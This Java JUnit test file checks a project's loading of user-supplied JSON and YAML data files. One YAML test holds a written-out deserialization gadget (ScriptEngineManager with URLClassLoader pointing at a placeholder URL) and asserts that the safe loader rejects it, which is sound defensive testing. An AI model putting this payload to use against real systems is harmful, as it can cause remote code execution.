package io.wirebench.bench;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.wirebench.core.model.Dataset;
import io.wirebench.core.model.tree.TreeDocument;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class UserDataTest {
    @TempDir
    Path dir;

    /** Writes {@code content} to {@code dir/name} and loads it as {@code DATA=} would (also for {@link HostileUserDataTest}). */
    static Dataset<TreeDocument> load(Path dir, String name, String content) throws IOException {
        Path file = dir.resolve(name);
        Files.writeString(file, content);
        return UserData.dataset(UserData.idFor(file));
    }

    @Test
    void jsonBecomesATreeWithLongsAndDoubles() throws IOException {
        Dataset<TreeDocument> d = load(dir, "data.json", "{\"n\": 1, \"x\": 2.5, \"big\": 12345678901234, \"list\": [true, null, \"s\"]}");
        Map<?, ?> root = (Map<?, ?>) d.newSample().getRoot();
        assertEquals(1L, root.get("n"));
        assertEquals(2.5, root.get("x"));
        assertEquals(12345678901234L, root.get("big"));
        assertEquals(java.util.Arrays.asList(true, null, "s"), root.get("list"));
        assertTrue(d.id().startsWith("file:/"), d.id());
    }

    @Test
    void yamlIsReadWithTheSafeLoader() throws IOException {
        Dataset<TreeDocument> d = load(dir, "data.yaml", "name: wire\nsizes: [1, 2]\nnested: {a: 1.5}\n");
        Map<?, ?> root = (Map<?, ?>) d.newSample().getRoot();
        assertEquals(List.of(1L, 2L), root.get("sizes"));
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> load(dir, "evil.yaml", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"));
        assertTrue(e.getMessage().contains("not valid YAML"), e.getMessage());
    }

    @Test
    @SuppressWarnings("unchecked")
    void eachSampleIsAFreshEqualCopy() throws IOException {
        Dataset<TreeDocument> d = load(dir, "data.json", "{\"a\": [1, {\"b\": 2}]}");
        TreeDocument first = d.newSample();
        TreeDocument second = d.newSample();
        assertEquals(first, second);
        ((Map<String, Object>) first.getRoot()).put("c", 3L);
        assertEquals(1, ((Map<?, ?>) d.newSample().getRoot()).size(), "a change to one sample leaked into the next");
    }

    @Test
    void badFilesAreRefusedWithTheFileAndTheReason() throws IOException {
        IllegalArgumentException broken = assertThrows(IllegalArgumentException.class, () -> load(dir, "broken.json", "{\"a\": [1, 2"));
        assertTrue(broken.getMessage().contains("broken.json") && broken.getMessage().contains("not valid JSON"), broken.getMessage());
        IllegalArgumentException missing = assertThrows(IllegalArgumentException.class,
                () -> UserData.dataset(UserData.idFor(dir.resolve("absent.json"))));
        assertTrue(missing.getMessage().contains("absent.json"), missing.getMessage());
        IllegalArgumentException csv = assertThrows(IllegalArgumentException.class, () -> load(dir, "data.csv", "a,b"));
        assertTrue(csv.getMessage().contains(".json, .yaml or .yml"), csv.getMessage());
        IllegalArgumentException key = assertThrows(IllegalArgumentException.class, () -> load(dir, "keys.yaml", "1: one\n"));
        assertTrue(key.getMessage().contains("not a string"), key.getMessage());
    }
}
